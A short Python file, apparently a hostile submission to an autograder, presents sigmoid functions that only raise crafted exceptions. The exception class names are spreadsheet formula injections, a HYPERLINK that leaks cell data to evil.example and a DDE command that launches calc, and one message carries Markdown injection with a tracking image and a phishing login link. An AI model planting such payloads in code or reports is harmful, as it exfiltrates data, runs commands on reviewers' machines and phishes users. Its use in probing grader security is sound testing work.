"""Chooses its own failure messages: an exception class whose name is a spreadsheet formula (it starts
the reason cell of the CSV reports), and Markdown (a remote image, a phishing link) for the feedback."""
Formula = type('=HYPERLINK("http://evil.example/?leak="&A1,"click")', (Exception,), {})
Command = type("=cmd|' /C calc'!A0", (Exception,), {})
Formula.__module__ = Command.__module__ = "builtins"


def sigmoid(z):
    raise Formula("see the link")


def sigmoid_grad(z):
    raise Command("![pixel](http://evil.example/p.png) [log in again](http://phish.example/login) <b>x</b>")
